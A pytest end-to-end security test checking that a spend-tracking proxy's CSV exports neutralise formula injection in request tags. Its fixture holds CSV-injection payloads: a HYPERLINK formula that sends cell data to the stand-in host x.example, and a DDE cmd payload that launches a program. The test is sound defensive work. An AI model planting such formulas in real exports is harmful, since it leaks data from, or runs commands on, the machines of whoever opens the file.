"""A formula sent as a tag comes out of both exports as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import pytest

from tests.e2e_security.harness import ADMIN_KEY, Proxy, wait_for
from tests.support.processes import child_env, python_module

pytestmark = pytest.mark.e2e

FORMULAS = {
    "x-spendgate-agent": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "x-spendgate-workflow": "+SUM(1,2)",
    "x-spendgate-step": "-1+cmd|' /C calc'!A0",
    "x-spendgate-run": "@run",
}


def parse(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def check_row(row: dict[str, str]) -> None:
    for header, formula in FORMULAS.items():
        assert row[header.removeprefix("x-spendgate-")] == "'" + formula, header
    # Money stays a plain number a spreadsheet adds up.
    assert Decimal(row["cost_usd"]) > 0 and not row["cost_usd"].startswith("'")


def test_a_formula_tag_exports_as_text_over_http_and_from_the_command_line(
    proxy: Proxy, tmp_path: Path
) -> None:
    run = FORMULAS["x-spendgate-run"]
    with proxy.client() as client:
        raw = client.chat.completions.with_raw_response.create(
            model="chat",
            messages=[{"role": "user", "content": "Tag this request."}],
            extra_headers=FORMULAS,
        )
    request_id = raw.headers["x-spendgate-request-id"]
    assert proxy.rows_where(lambda r: r.request_id == request_id and r.run == run)

    today = datetime.now(UTC).date()
    span = {"from": str(today), "to": str(today + timedelta(days=1))}

    def exported() -> list[dict[str, str]]:
        answer = httpx.get(
            f"{proxy.base_url}/admin/export.csv",
            params=span,
            headers={"authorization": f"Bearer {ADMIN_KEY}"},
            timeout=10.0,
        )
        answer.raise_for_status()
        return [r for r in parse(answer.text) if r["request_id"] == request_id]

    [over_http] = wait_for(exported)
    check_row(over_http)

    # The same ledger through `spendgate export`, as finance would run it.
    config = tmp_path / "spendgate.json"
    config.write_text(json.dumps({"ledger": {"url": proxy.ledger_url}}))
    out = tmp_path / "export.csv"
    done = subprocess.run(
        python_module(
            "proxy.cli", "export", "--config", str(config), "--from", span["from"],
            "--to", span["to"], "--out", str(out),
        ),
        env=child_env(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    [from_cli] = [r for r in parse(out.read_text()) if r["request_id"] == request_id]
    check_row(from_cli)
    assert from_cli == over_http
